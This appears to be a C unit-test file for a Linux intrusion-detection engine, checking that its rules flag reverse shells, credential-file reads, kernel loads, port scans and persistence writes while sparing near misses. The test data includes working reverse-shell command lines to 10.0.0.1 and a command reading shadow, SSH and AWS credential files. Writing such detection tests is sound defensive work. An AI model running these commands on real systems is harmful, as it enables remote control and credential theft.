// SPDX-License-Identifier: GPL-2.0-only
/*
 * The shipped rules (rules/NAME.rule) on recorded event sequences in a real
 * store, with the near misses that must not alert. The file, network and
 * security tables are created here with the docs/schema.md columns when the
 * store does not make them yet.
 */
#include <criterion/criterion.h>
#include <errno.h>
#include <sqlite3.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "detect.h"
#include "fmt.h"
#include "kql.h"
#include "rule.h"
#include "store.h"

#define COMMON                                                                               \
	"Timestamp TEXT NOT NULL, DeviceId TEXT NOT NULL, DeviceName TEXT, ActionType TEXT," \
	" ReportId INTEGER, AdditionalFields TEXT, InitiatingProcessId INTEGER,"             \
	" InitiatingProcessFileName TEXT, InitiatingProcessFolderPath TEXT,"                 \
	" InitiatingProcessCommandLine TEXT, InitiatingProcessCreationTime TEXT,"            \
	" InitiatingProcessAccountName TEXT, InitiatingProcessParentId INTEGER,"             \
	" InitiatingProcessParentFileName TEXT"

static char dir[64], dbpath[128];
static struct vg_store *st;
static struct vg_detect *det;
static sqlite3 *db;
static int report_id;

static void sql(const char *fmt, ...)
{
	char *q, *msg = NULL;
	va_list ap;

	va_start(ap, fmt);
	q = sqlite3_vmprintf(fmt, ap); /* %Q quotes a string for SQL */
	va_end(ap);
	cr_assert_not_null(q);
	cr_assert_eq(sqlite3_exec(db, q, NULL, NULL, &msg), SQLITE_OK, "%s: %s", q, msg);
	sqlite3_free(q);
}

static long long qint(const char *fmt, ...)
{
	sqlite3_stmt *s;
	long long v = -1;
	char *q;
	va_list ap;

	va_start(ap, fmt);
	cr_assert_geq(vasprintf(&q, fmt, ap), 0);
	va_end(ap);
	cr_assert_eq(sqlite3_prepare_v2(db, q, -1, &s, NULL), SQLITE_OK, "%s: %s", q,
		     sqlite3_errmsg(db));
	if (sqlite3_step(s) == SQLITE_ROW)
		v = sqlite3_column_int64(s, 0);
	sqlite3_finalize(s);
	free(q);
	return v;
}

static void setup(void)
{
	struct vg_sb why;

	strcpy(dir, "/tmp/vigil-detect-XXXXXX");
	cr_assert_not_null(mkdtemp(dir));
	snprintf(dbpath, sizeof(dbpath), "%s/t.db", dir);
	cr_assert_eq(vg_store_open(&st, dbpath), 0);
	db = vg_store_db(st);
	sql("CREATE TABLE IF NOT EXISTS DeviceFileEvents (" COMMON ", FileName TEXT,"
	    " FolderPath TEXT, PreviousFileName TEXT, PreviousFolderPath TEXT, FileSize INTEGER,"
	    " SHA256 TEXT)");
	sql("CREATE TABLE IF NOT EXISTS DeviceNetworkEvents (" COMMON ", RemoteIP TEXT,"
	    " RemotePort INTEGER, LocalIP TEXT, LocalPort INTEGER, Protocol TEXT)");
	sql("CREATE TABLE IF NOT EXISTS DeviceEvents (" COMMON ", FileName TEXT, FolderPath TEXT,"
	    " InitiatingProcessAccountUid INTEGER)");
	vg_sb_init(&why);
	cr_assert_eq(vg_detect_open(&det, db, "rules", &why), 0, "%s", vg_sb_str(&why));
	vg_sb_free(&why);
	report_id = 0;
}

static void teardown(void)
{
	char cmd[160];

	vg_detect_close(det);
	vg_store_close(st);
	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", dir);
	system(cmd);
}

TestSuite(detect, .init = setup, .fini = teardown);

#define NOW "strftime('%%Y-%%m-%%dT%%H:%%M:%%fZ', 'now')"

static void proc(const char *dev, const char *action, const char *folder, const char *cmd,
		 const char *parent)
{
	const char *base = strrchr(folder, '/');
	int id = ++report_id;

	sql("INSERT INTO DeviceProcessEvents (Timestamp, DeviceId, ActionType, ReportId, FileName,"
	    " FolderPath, ProcessId, ProcessCommandLine, InitiatingProcessFileName) VALUES"
	    " (" NOW ", '%s', '%s', %d, '%s', '%s', %d, %Q, '%s')",
	    dev, action, id, base ? base + 1 : folder, folder, 1000 + id, cmd, parent);
}

static void fileev(const char *dev, const char *action, const char *folder, const char *by)
{
	sql("INSERT INTO DeviceFileEvents (Timestamp, DeviceId, ActionType, ReportId, FileName,"
	    " FolderPath, InitiatingProcessId, InitiatingProcessFileName) VALUES"
	    " (" NOW ", '%s', '%s', %d, '%s', '%s', 77, '%s')",
	    dev, action, ++report_id, strrchr(folder, '/') + 1, folder, by);
}

static void netev(const char *dev, const char *action, const char *by, int pid)
{
	sql("INSERT INTO DeviceNetworkEvents (Timestamp, DeviceId, ActionType, ReportId, RemoteIP,"
	    " RemotePort, Protocol, InitiatingProcessId, InitiatingProcessFileName) VALUES"
	    " (" NOW ", '%s', '%s', %d, '10.0.0.1', 4444, 'Tcp', %d, '%s')",
	    dev, action, ++report_id, pid, by);
}

static void devev(const char *dev, const char *action, const char *folder, const char *by, int pid,
		  const char *account, const char *by_account)
{
	/* a ptrace target's account is in AdditionalFields, as vigild sends it */
	sql("INSERT INTO DeviceEvents (Timestamp, DeviceId, ActionType, ReportId, FolderPath,"
	    " InitiatingProcessId, InitiatingProcessCreationTime, InitiatingProcessFileName,"
	    " AdditionalFields, InitiatingProcessAccountUid) VALUES"
	    " (" NOW ", '%s', '%s', %d, '%s', %d, '2026-01-01T00:00:00.000Z', '%s', %Q, %s)",
	    dev, action, ++report_id, folder, pid, by,
	    *account ? sqlite3_mprintf("{\"TargetProcessId\":9,\"TargetAccountUid\":%s}", account) :
		       "{}",
	    *by_account ? by_account : "0");
}

static long long alerts(const char *rule)
{
	return qint("SELECT count(*) FROM AlertInfo WHERE RuleId = '%s'", rule);
}

static long long total_alerts(void)
{
	return qint("SELECT count(*) FROM AlertInfo");
}

Test(detect, exec_from_tmp_and_near_misses)
{
	proc("d1", "ProcessCreated", "/usr/bin/tmpwatch", "tmpwatch", "cron");
	proc("d1", "ProcessCreated", "/home/u/tmp/tool", "tool", "bash");
	proc("d1", "ProcessCreated", "/tmpfs/x", "x", "bash");
	proc("d1", "ProcessTerminated", "/tmp/gone", "", "bash");
	cr_assert_eq(vg_detect_run(det), 0);
	cr_expect_eq(total_alerts(), 0);

	proc("d1", "ProcessCreated", "/dev/shm/.x", "/dev/shm/.x -q", "bash");
	cr_assert_eq(vg_detect_run(det), 1);
	cr_expect_eq(alerts("exec_from_tmp"), 1);
	/* evidence names the event: table, rowid and ReportId */
	cr_expect_eq(qint("SELECT count(*) FROM AlertEvidence e JOIN AlertInfo a USING (AlertId)"
			  " JOIN DeviceProcessEvents p ON p.rowid = e.SourceRowId"
			  " WHERE e.SourceTable = 'DeviceProcessEvents' AND p.FolderPath = "
			  "'/dev/shm/.x' AND e.ReportId = p.ReportId AND a.Severity = 'Medium'"
			  " AND a.AttackTechniques = 'T1204.002' AND e.FolderPath = '/dev/shm/.x'"),
		     1);
	/* a second run sees no new rows: no second alert */
	cr_assert_eq(vg_detect_run(det), 0);
	proc("d1", "ProcessCreated", "/tmp/a.out", "./a.out", "make");
	proc("d1", "ProcessCreated", "/var/tmp/b", "b", "sh");
	cr_assert_eq(vg_detect_run(det), 2);
	cr_expect_eq(alerts("exec_from_tmp"), 3);
}

Test(detect, download_chmod_exec)
{
	/* near misses: not downloaded, downloaded but never chmod'ed, another device */
	fileev("d1", "FileCreated", "/home/u/copied", "cp");
	fileev("d1", "FileModeChanged", "/home/u/copied", "chmod");
	proc("d1", "ProcessCreated", "/home/u/copied", "./copied", "bash");
	fileev("d1", "FileCreated", "/home/u/plain", "curl");
	proc("d1", "ProcessCreated", "/home/u/plain", "./plain", "bash");
	fileev("d2", "FileCreated", "/home/u/elsewhere", "wget");
	fileev("d2", "FileModeChanged", "/home/u/elsewhere", "chmod");
	proc("d1", "ProcessCreated", "/home/u/elsewhere", "./elsewhere", "bash");
	cr_assert_eq(vg_detect_run(det), 0);
	cr_expect_eq(total_alerts(), 0);

	fileev("d1", "FileCreated", "/home/u/payload", "wget");
	fileev("d1", "FileModeChanged", "/home/u/payload", "chmod");
	cr_assert_eq(vg_detect_run(det), 0);
	proc("d1", "ProcessCreated", "/home/u/payload", "./payload", "bash");
	cr_assert_eq(vg_detect_run(det), 1);
	cr_expect_eq(alerts("download_exec"), 1);
	cr_expect_eq(qint("SELECT count(*) FROM AlertEvidence WHERE Title LIKE 'File downloaded%%'"
			  " AND FolderPath = '/home/u/payload' AND ActionType = 'ProcessCreated'"),
		     1);
}

Test(detect, reverse_shell)
{
	proc("d1", "ProcessCreated", "/usr/bin/nc", "nc -l 4444", "bash");
	proc("d1", "ProcessCreated", "/bin/bash", "bash -c 'ls /dev/tcpdump'", "make");
	proc("d1", "ProcessCreated", "/bin/bash", "bash ./configure", "make");
	netev("d1", "ConnectionSuccess", "curl", 50);
	netev("d1", "ListeningConnectionCreated", "bash", 51);
	cr_assert_eq(vg_detect_run(det), 0);
	cr_expect_eq(total_alerts(), 0);

	proc("d1", "ProcessCreated", "/bin/bash",
	     "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'", "sh");
	proc("d1", "ProcessCreated", "/bin/sh", "sh", "nc");
	proc("d1", "ProcessCreated", "/usr/bin/nc", "nc 10.0.0.1 4444 -e /bin/sh", "bash");
	cr_assert_eq(vg_detect_run(det), 3);
	cr_expect_eq(alerts("reverse_shell"), 3);
	/* two connections of one shell: one alert, two pieces of evidence */
	netev("d1", "ConnectionAttempt", "bash", 52);
	netev("d1", "ConnectionSuccess", "bash", 52);
	cr_assert_eq(vg_detect_run(det), 1);
	cr_expect_eq(alerts("reverse_shell_net"), 1);
	cr_expect_eq(qint("SELECT count(*) FROM AlertEvidence e JOIN AlertInfo a USING (AlertId)"
			  " WHERE a.RuleId = 'reverse_shell_net' AND e.RemoteIP = '10.0.0.1'"),
		     2);
}

Test(detect, credential_enumeration)
{
	/* ssh reads keys for a living; one file alone is no enumeration */
	devev("d1", "SensitiveFileRead", "/root/.ssh/id_rsa", "ssh", 60, "", "0");
	devev("d1", "SensitiveFileRead", "/root/.ssh/id_ed25519", "ssh", 60, "", "0");
	devev("d1", "SensitiveFileRead", "/etc/shadow", "python3", 61, "", "0");
	devev("d1", "SensitiveFileRead", "/etc/shadow", "python3", 61, "", "0");
	proc("d1", "ProcessCreated", "/usr/bin/cat", "cat /etc/passwd", "bash");
	proc("d1", "ProcessCreated", "/usr/bin/ssh-keygen", "ssh-keygen -f /root/.ssh/id_rsa",
	     "bash");
	cr_assert_eq(vg_detect_run(det), 0);
	cr_expect_eq(total_alerts(), 0);

	devev("d1", "SensitiveFileRead", "/root/.aws/credentials", "python3", 61, "", "0");
	cr_assert_eq(vg_detect_run(det), 1);
	cr_expect_eq(alerts("credential_files"), 1);
	/* evidence is the rows of this run: the earlier reads were seen before */
	cr_expect_eq(qint("SELECT count(*) FROM AlertEvidence e JOIN AlertInfo a USING (AlertId)"
			  " WHERE a.RuleId = 'credential_files'"),
		     1);
	devev("d1", "SensitiveFileRead", "/root/.ssh/id_rsa", "python3", 61, "", "0");
	cr_assert_eq(vg_detect_run(det), 0, "same process: evidence joins the open alert");
	cr_expect_eq(qint("SELECT count(*) FROM AlertEvidence e JOIN AlertInfo a USING (AlertId)"
			  " WHERE a.RuleId = 'credential_files'"),
		     2);

	proc("d1", "ProcessCreated", "/usr/bin/head",
	     "head -c0 /etc/shadow /root/.ssh/id_rsa /root/.aws/credentials", "sh");
	cr_assert_eq(vg_detect_run(det), 1);
	cr_expect_eq(alerts("credential_files_cmdline"), 1);
}

/* A BPF load by the image at path (inode ino on device 2049), as vigild reports it. */
static void bpf_load_by(const char *dev, const char *path, int ino, int pid)
{
	sql("INSERT INTO DeviceEvents (Timestamp, DeviceId, ActionType, ReportId,"
	    " InitiatingProcessId, InitiatingProcessFileName, InitiatingProcessFolderPath,"
	    " AdditionalFields) VALUES (" NOW ", %Q, 'BpfProgramLoad', %d, %d, %Q, %Q,"
	    " '{\"ProgramName\":\"p\",\"ExeInode\":%d,\"ExeDev\":2049}')",
	    dev, ++report_id, pid, strrchr(path, '/') + 1, path, ino);
}

Test(detect, ptrace_kernel_fileless)
{
	/* d2's sensor runs /usr/sbin/vigild, inode 4242: what d1 sees it load is no alert. */
	sql("INSERT INTO SensorExecutables VALUES ('d2', '/usr/sbin/vigild', 4242, 2049, " NOW ")");
	devev("d1", "PtraceAttach", "", "gdb", 70, "1000", "1000");
	devev("d1", "PtraceAttach", "", "gdb", 69, "", "1000"); /* target gone: no uid */
	bpf_load_by("d1", "/usr/sbin/vigild", 4242, 71);
	proc("d1", "ProcessCreated", "/usr/bin/memfd_tool", "memfd_tool", "bash");
	cr_assert_eq(vg_detect_run(det), 0);
	cr_expect_eq(total_alerts(), 0);

	devev("d1", "PtraceAttach", "", "gdb", 72, "0", "1000");
	devev("d1", "KernelModuleLoad", "/root/rk.ko", "insmod", 73, "", "0");
	devev("d1", "BpfProgramLoad", "", "bpftool", 74, "", "0");
	/* Named vigild, or at its path but another file (replaced, or another mount): alerts. */
	bpf_load_by("d1", "/tmp/x/vigild", 4242, 76);
	bpf_load_by("d1", "/usr/sbin/vigild", 4243, 77);
	devev("d1", "FilelessExec", "/memfd:x (deleted)", "bash", 75, "", "0");
	proc("d1", "ProcessCreated", "/memfd:payload (deleted)", "payload", "python3");
	proc("d1", "ProcessCreated", "/home/u/old (deleted)", "old", "bash");
	cr_assert_eq(vg_detect_run(det), 8);
	cr_expect_eq(alerts("ptrace_other_user"), 1);
	cr_expect_eq(alerts("kernel_load"), 4);
	cr_expect_eq(alerts("fileless_exec_event"), 1);
	cr_expect_eq(alerts("fileless_exec"), 2);
}

Test(detect, watermark_survives_a_restart)
{
	struct vg_sb why;

	proc("d1", "ProcessCreated", "/tmp/one", "one", "bash");
	cr_assert_eq(vg_detect_run(det), 1);
	vg_detect_close(det);
	vg_sb_init(&why);
	cr_assert_eq(vg_detect_open(&det, db, "rules", &why), 0);
	vg_sb_free(&why);
	cr_assert_eq(vg_detect_run(det), 0);
	cr_expect_eq(qint("SELECT LastRowId FROM DetectionState WHERE TableName ="
			  " 'DeviceProcessEvents'"),
		     qint("SELECT max(rowid) FROM DeviceProcessEvents"));
}

static void bad_rule(const char *text, const char *want)
{
	char rdir[128], path[160];
	struct vg_detect *d2 = NULL;
	struct vg_sb why;
	FILE *f;

	snprintf(rdir, sizeof(rdir), "%s/rules", dir);
	mkdir(rdir, 0700);
	snprintf(path, sizeof(path), "%s/bad.rule", rdir);
	f = fopen(path, "w");
	cr_assert_not_null(f);
	fputs(text, f);
	fclose(f);
	vg_sb_init(&why);
	cr_expect_eq(vg_detect_open(&d2, db, rdir, &why), -EINVAL);
	cr_expect_null(d2);
	cr_expect_not_null(strstr(vg_sb_str(&why), want), "want '%s' in:\n%s", want,
			   vg_sb_str(&why));
	vg_sb_free(&why);
}

Test(detect, malformed_rules_are_refused_with_position)
{
	bad_rule("title: t\nseverity: High\ncategory: c\nmitre: T1000\nquery:\n"
		 "DeviceProcessEvents\n| where Nope == 1\n",
		 "/bad.rule:7:9: unknown column 'Nope'\n  | where Nope == 1\n          ^");
	bad_rule("title: t\nseverity: Urgent\ncategory: c\nmitre: T1000\nquery:\nDeviceInfo\n",
		 "severity 'Urgent' is not");
	bad_rule("title: t\nseverity: Low\ncategory: c\nmitre: X1\nquery:\nDeviceInfo\n",
		 "mitre 'X1' is not an ATT&CK technique");
	bad_rule("title: t\nseverity: Low\ncolour: c\n", "bad.rule:3:1: unknown key 'colour'");
	bad_rule("title: t\nseverity: Low\nwindow: 10 minutes\n",
		 "bad.rule:3:9: '10 minutes' is not a duration");
	bad_rule("title: t\nseverity: Low\ncategory: c\nmitre: T1000\n", "no 'query:' section");
	bad_rule("title: t\nseverity: Low\ncategory: c\nmitre: T1000\nquery:\n"
		 "DeviceProcessEvents | project FileName\n",
		 "must return the events of its table");
	bad_rule("title: t\nseverity: Low\ncategory: c\nmitre: T1000\ngroup: Nope\nquery:\n"
		 "DeviceProcessEvents\n",
		 "group column 'Nope'");
}

Test(detect, rule_for_a_missing_table_waits_for_it)
{
	char rdir[128], path[160];
	struct vg_detect *d2;
	struct vg_sb why;
	int waiting;
	FILE *f;

	snprintf(rdir, sizeof(rdir), "%s/rules2", dir);
	mkdir(rdir, 0700);
	snprintf(path, sizeof(path), "%s/later.rule", rdir);
	f = fopen(path, "w");
	fputs("title: later\nseverity: Low\ncategory: c\nmitre: T1000\nquery:\nFutureEvents\n"
	      "| where Kind == \"x\"\n",
	      f);
	fclose(f);
	vg_sb_init(&why);
	cr_assert_eq(vg_detect_open(&d2, db, rdir, &why), 0, "%s", vg_sb_str(&why));
	vg_sb_free(&why);
	cr_expect_eq(vg_detect_nrules(d2, &waiting), 1);
	cr_expect_eq(waiting, 1);
	cr_expect_eq(vg_detect_run(d2), 0);
	sql("CREATE TABLE FutureEvents (Timestamp TEXT, DeviceId TEXT, Kind TEXT)");
	sql("INSERT INTO FutureEvents VALUES ('t', 'd9', 'y'), ('t', 'd9', 'x')");
	cr_expect_eq(vg_detect_run(d2), 1);
	vg_detect_nrules(d2, &waiting);
	cr_expect_eq(waiting, 0);
	vg_detect_close(d2);
}

/* A connection attempt by pid (child of ppid) at ts (NULL: now). */
/* What a probe's attempt comes to: refused by default, as a closed port's. */
static const char *probe_outcome = "ConnectionFailed";

static void probe(const char *ts, const char *ip, int port, int pid, const char *by, int ppid,
		  const char *parent_by)
{
	static const char *const what[] = { "ConnectionAttempt", NULL };

	for (int i = 0; i < 2; i++)
		sql("INSERT INTO DeviceNetworkEvents (Timestamp, DeviceId, ActionType, ReportId,"
		    " RemoteIP, RemotePort, Protocol, InitiatingProcessId, InitiatingProcessFileName,"
		    " InitiatingProcessParentId, InitiatingProcessParentFileName) VALUES"
		    " (%s, 'd1', %Q, %d, %Q, %d, 'Tcp', %d, %Q, %d, %Q)",
		    ts ? sqlite3_mprintf("%Q", ts) : "strftime('%Y-%m-%dT%H:%M:%fZ', 'now')",
		    what[i] ? what[i] : probe_outcome, ++report_id, ip, port, pid, by, ppid,
		    parent_by);
}

static long long alert_col(const char *rule, const char *col)
{
	return qint("SELECT %s FROM AlertInfo WHERE RuleId = '%s'", col, rule);
}

/*
 * The probes of a loop of subshells (each a bash whose parent is the loop's
 * bash) are one process tree: one alert, every probe its evidence, counted.
 */
Test(detect, subshells_of_one_shell_are_one_alert_with_a_count)
{
	for (int i = 0; i < 30; i++)
		probe("2026-11-29T10:00:00.000Z", "10.0.0.9", 4444, 500 + i, "bash", 400, "bash");
	/* the loop's shell itself, and another tree */
	probe("2026-11-29T10:01:00.000Z", "10.0.0.9", 4444, 400, "bash", 300, "sshd");
	probe("2026-11-29T10:01:00.000Z", "10.0.0.9", 4444, 900, "bash", 800, "sshd");
	cr_assert_eq(vg_detect_run(det), 2);
	cr_expect_eq(alerts("reverse_shell_net"), 2);
	cr_expect_eq(qint("SELECT EvidenceCount FROM AlertInfo WHERE RuleId = 'reverse_shell_net'"
			  " AND rowid = (SELECT min(rowid) FROM AlertInfo)"),
		     31);
	cr_expect_eq(qint("SELECT count(*) FROM AlertEvidence WHERE AlertId = 'vg00000001'"), 31);
	cr_expect_eq(qint("SELECT count(*) FROM AlertInfo WHERE AlertId = 'vg00000001' AND"
			  " FirstActivity = '2026-11-29T10:00:00.000Z' AND"
			  " LastActivity = '2026-11-29T10:01:00.000Z'"),
		     1);
	/* 9 minutes later: the same alert; 11 minutes after its first: a new one */
	probe("2026-11-29T10:09:59.000Z", "10.0.0.9", 4444, 531, "bash", 400, "bash");
	cr_assert_eq(vg_detect_run(det), 0);
	probe("2026-11-29T10:10:00.000Z", "10.0.0.9", 4444, 532, "bash", 400, "bash");
	cr_assert_eq(vg_detect_run(det), 1);
	cr_expect_eq(qint("SELECT EvidenceCount FROM AlertInfo WHERE AlertId = 'vg00000001'"), 32);
	cr_expect_eq(qint("SELECT EvidenceCount FROM AlertInfo WHERE AlertId = 'vg00000003'"), 1);
}

/*
 * Loopback probes are no reverse shell; 20 refused ports of one address by
 * one tree are a port scan whose evidence is every attempt, those of earlier
 * runs too; connections to 25 ports that listen are none.
 */
Test(detect, port_scan_counts_every_probe_and_a_probe_is_no_reverse_shell)
{
	for (int i = 0; i < 19; i++)
		probe(NULL, "127.0.0.1", 1000 + i, 600 + i, "bash", 599, "bash");
	probe(NULL, "::1", 5432, 700, "bash", 1, "make");
	/* 19 ports, and 20 ports by different trees, and 25 listening ports reached by one tree */
	for (int i = 0; i < 20; i++)
		probe(NULL, "127.0.0.1", 2000 + i, 800 + i, "nc", 799 + i, "bash");
	probe_outcome = "ConnectionSuccess";
	for (int i = 0; i < 25; i++)
		probe(NULL, "127.0.0.1", 3000 + i, 900 + i, "bash", 899, "bash");
	probe_outcome = "ConnectionFailed";
	cr_assert_eq(vg_detect_run(det), 0);
	cr_expect_eq(total_alerts(), 0);
	probe(NULL, "127.0.0.1", 1019, 619, "bash", 599, "bash");
	probe(NULL, "127.0.0.1", 1019, 620, "bash", 599, "bash");
	cr_assert_eq(vg_detect_run(det), 1);
	cr_expect_eq(alerts("port_scan"), 1);
	cr_expect_eq(alert_col("port_scan", "EvidenceCount"), 21);
	cr_expect_eq(qint("SELECT count(DISTINCT SourceRowId) FROM AlertEvidence"), 21);
	probe(NULL, "127.0.0.1", 1020, 621, "bash", 599, "bash");
	cr_assert_eq(vg_detect_run(det), 0);
	cr_expect_eq(alert_col("port_scan", "EvidenceCount"), 22);
	cr_expect_eq(qint("SELECT count(*) FROM AlertEvidence"), 22);
}

static void exec_ev(const char *folder, const char *cmd, const char *fields)
{
	int id = ++report_id;

	sql("INSERT INTO DeviceProcessEvents (Timestamp, DeviceId, ActionType, ReportId, FileName,"
	    " FolderPath, ProcessId, ProcessCommandLine, InitiatingProcessId,"
	    " InitiatingProcessFileName, AdditionalFields) VALUES (" NOW ", 'd1', 'ProcessCreated',"
	    " %d, %Q, %Q, %d, %Q, %d, 'x', %Q)",
	    id, strrchr(folder, '/') + 1, folder, 3000 + id, cmd, 2000 + id, fields);
}

Test(detect, reverse_shell_near_misses)
{
	static const char sock[] = "{\"StdinSocket\":true,\"StdoutSocket\":true}";

	/* a wrapper script and a -c command serving a socket; probes; a socket on stdin only */
	exec_ev("/bin/sh", "/bin/sh /opt/vigil/wrapper --transport stdio", sock);
	exec_ev("/bin/sh", "/bin/sh -c 'exec /opt/vigil/vigild'", sock);
	exec_ev("/bin/bash", "bash", "{\"StdinSocket\":true}");
	exec_ev("/bin/bash", "bash -c 'echo > /dev/tcp/127.0.0.1/5432'", "{}");
	exec_ev("/bin/bash", "bash -c '< /dev/tcp/db/5432'", "{}");
	cr_assert_eq(vg_detect_run(det), 0);
	cr_expect_eq(total_alerts(), 0);

	exec_ev("/bin/sh", "sh", sock);
	exec_ev("/bin/bash", "bash -li", sock);
	exec_ev("/bin/bash", "bash -c 'exec 5<>/dev/tcp/10.0.0.1/80; cat <&5 | sh >&5'", "{}");
	cr_assert_eq(vg_detect_run(det), 3);
	cr_expect_eq(alerts("reverse_shell_stdio"), 2);
	cr_expect_eq(alerts("reverse_shell"), 1);
}

Test(detect, exec_from_tmp_spares_what_a_linker_wrote)
{
	fileev("d1", "FileCreated", "/tmp/b/tests/unit_tests", "x86_64-linux-gnu-ld.bfd");
	fileev("d1", "FileCreated", "/tmp/conftest", "collect2");
	proc("d1", "ProcessCreated", "/tmp/b/tests/unit_tests", "./tests/unit_tests", "make");
	proc("d1", "ProcessCreated", "/tmp/conftest", "./conftest", "sh");
	cr_assert_eq(vg_detect_run(det), 0);
	cr_expect_eq(total_alerts(), 0);
	/* written by anything else, or by a linker on another path */
	fileev("d1", "FileCreated", "/tmp/dropper", "python3");
	fileev("d1", "FileCreated", "/tmp/ld", "curl");
	proc("d1", "ProcessCreated", "/tmp/dropper", "/tmp/dropper", "bash");
	proc("d1", "ProcessCreated", "/tmp/ld", "/tmp/ld", "bash");
	proc("d1", "ProcessCreated", "/tmp/b/tests/unit_tests2", "x", "bash");
	cr_assert_eq(vg_detect_run(det), 3);
}

Test(detect, a_refused_load_is_an_attempt)
{
	sql("INSERT INTO DeviceEvents (Timestamp, DeviceId, ActionType, ReportId,"
	    " InitiatingProcessId, InitiatingProcessFileName, AdditionalFields) VALUES"
	    " (" NOW ", 'd1', 'KernelModuleLoad', 1, 50, 'insmod', '{\"Result\":-2}'),"
	    " (" NOW ", 'd1', 'KernelModuleLoad', 2, 50, 'insmod', '{\"Result\":-17}'),"
	    " (" NOW ", 'd1', 'KernelModuleLoad', 3, 51, 'insmod', '{\"Result\":0}')");
	cr_assert_eq(vg_detect_run(det), 2);
	cr_expect_eq(qint("SELECT EvidenceCount FROM AlertInfo WHERE RuleId = "
			  "'kernel_load_attempt' AND Title LIKE '%%attempted%%'"),
		     2);
	cr_expect_eq(qint("SELECT EvidenceCount FROM AlertInfo WHERE RuleId = 'kernel_load' AND"
			  " Title = 'Kernel module or BPF program loaded'"),
		     1);
}

/* A store whose AlertInfo predates the count columns gets them. */
Test(detect, an_older_alert_table_gets_the_new_columns)
{
	struct vg_sb why;

	vg_detect_close(det);
	sql("DROP TABLE AlertInfo");
	sql("CREATE TABLE AlertInfo (Timestamp TEXT NOT NULL, AlertId TEXT, Title TEXT NOT NULL,"
	    " Category TEXT, Severity TEXT, DetectionSource TEXT, AttackTechniques TEXT,"
	    " RuleId TEXT, DeviceId TEXT, DeviceName TEXT, Description TEXT,"
	    " GroupKey TEXT NOT NULL UNIQUE)");
	vg_sb_init(&why);
	cr_assert_eq(vg_detect_open(&det, db, "rules", &why), 0, "%s", vg_sb_str(&why));
	vg_sb_free(&why);
	proc("d1", "ProcessCreated", "/tmp/one", "one", "bash");
	cr_assert_eq(vg_detect_run(det), 1);
	cr_expect_eq(alert_col("exec_from_tmp", "EvidenceCount"), 1);
}

/* A file event on d1 by the program by, with AdditionalFields fields. */
static void filef(const char *action, const char *folder, const char *by, const char *fields)
{
	sql("INSERT INTO DeviceFileEvents (Timestamp, DeviceId, ActionType, ReportId, FileName,"
	    " FolderPath, InitiatingProcessFileName, AdditionalFields) VALUES"
	    " (" NOW ", 'd1', %Q, %d, %Q, %Q, %Q, %Q)",
	    action, ++report_id, strrchr(folder, '/') + 1, folder, by, fields);
}

/* Each file rule: what fires, and the package manager or tool that does it for a living. */
Test(detect, persistence_and_evasion_file_rules)
{
	static const struct {
		const char *rule, *action, *path, *by, *fields;
	} miss[] = {
		{ "persist_cron", "FileCreated", "/etc/cron.d/certbot", "dpkg", "{}" },
		{ "persist_cron", "FileModified", "/var/spool/cron/crontabs/u", "crontab", "{}" },
		{ "persist_cron", "FileCreated", "/etc/cron.dx", "sh", "{}" },
		{ "persist_systemd", "FileCreated", "/lib/systemd/system/ssh.service", "dpkg",
		  "{}" },
		{ "persist_systemd", "FileCreated", "/etc/systemd/system/x.wants", "sh", "{}" },
		{ "persist_shell_profile", "FileModified", "/home/u/.bashrc.swp", "vim", "{}" },
		{ "persist_authorized_keys", "FileModified", "/home/u/.ssh/known_hosts", "ssh",
		  "{}" },
		{ "persist_ld_preload", "FileModified", "/etc/ld.so.conf", "sh", "{}" },
		{ "persist_pam", "FileModified", "/etc/pam.d/common-auth", "pam-auth-update",
		  "{}" },
		{ "persist_passwd_write", "FileRenamed", "/etc/passwd", "useradd", "{}" },
		{ "persist_passwd_write", "FileModified", "/etc/passwd-", "sh", "{}" },
		{ "privesc_setid_chmod", "FileModeChanged", "/tmp/x", "chmod",
		  "{\"Mode\":\"0755\"}" },
		{ "privesc_setid_chmod", "FileModeChanged", "/usr/bin/su", "dpkg",
		  "{\"Mode\":\"4755\"}" },
		{ "privesc_setid_chmod", "FileModeChanged", "/var/lib/shared", "chmod",
		  "{\"Mode\":\"2750\"}" },
		{ "evasion_history", "FileModified", "/home/u/.bash_history", "bash",
		  "{\"OpenFlags\":1089}" }, /* O_WRONLY|O_CREAT|O_APPEND: bash saving it */
		{ "evasion_history", "FileCreated", "/home/u/.bash_history", "bash", "{}" },
		{ "evasion_log_tamper", "FileDeleted", "/var/log/syslog", "logrotate", "{}" },
		{ "evasion_log_tamper", "FileModified", "/var/log/auth.log", "rsyslogd",
		  "{\"OpenFlags\":1089}" },
		{ "evasion_log_tamper", "FileDeleted", "/var/log/syslog.2.gz", "sh", "{}" },
		{ "evasion_aslr", "FileModified", "/proc/sys/kernel/randomize_va_space2", "sh",
		  "{}" },
	};
	static const struct {
		const char *rule, *action, *path, *by, *fields;
	} hit[] = {
		{ "persist_cron", "FileCreated", "/etc/cron.d/update", "bash", "{}" },
		{ "persist_cron", "FileRenamed", "/var/spool/cron/crontabs/root", "python3", "{}" },
		{ "persist_systemd", "FileCreated", "/etc/systemd/system/backdoor.service", "sh",
		  "{}" },
		{ "persist_systemd", "FileCreated", "/home/u/.config/systemd/user/x.timer", "cp",
		  "{}" },
		{ "persist_shell_profile", "FileModified", "/home/u/.bashrc", "sh", "{}" },
		{ "persist_shell_profile", "FileCreated", "/etc/profile.d/x.sh", "tee", "{}" },
		{ "persist_authorized_keys", "FileModified", "/root/.ssh/authorized_keys", "sh",
		  "{}" },
		{ "persist_ld_preload", "FileCreated", "/etc/ld.so.preload", "dpkg", "{}" },
		{ "persist_pam", "FileModified", "/etc/pam.d/sshd", "sed", "{}" },
		{ "persist_pam", "FileCreated", "/lib/x86_64-linux-gnu/security/pam_x.so", "cp",
		  "{}" },
		{ "persist_passwd_write", "FileModified", "/etc/passwd", "sh", "{}" },
		{ "privesc_setid_chmod", "FileModeChanged", "/tmp/rootsh", "chmod",
		  "{\"Mode\":\"4755\"}" },
		{ "privesc_setid_chmod", "FileModeChanged", "/tmp/suidgid", "python3",
		  "{\"Mode\":\"6711\"}" },
		{ "evasion_history", "FileDeleted", "/root/.bash_history", "rm", "{}" },
		{ "evasion_history", "FileModified", "/home/u/.zsh_history", "sh",
		  "{\"OpenFlags\":577}" }, /* O_WRONLY|O_CREAT|O_TRUNC */
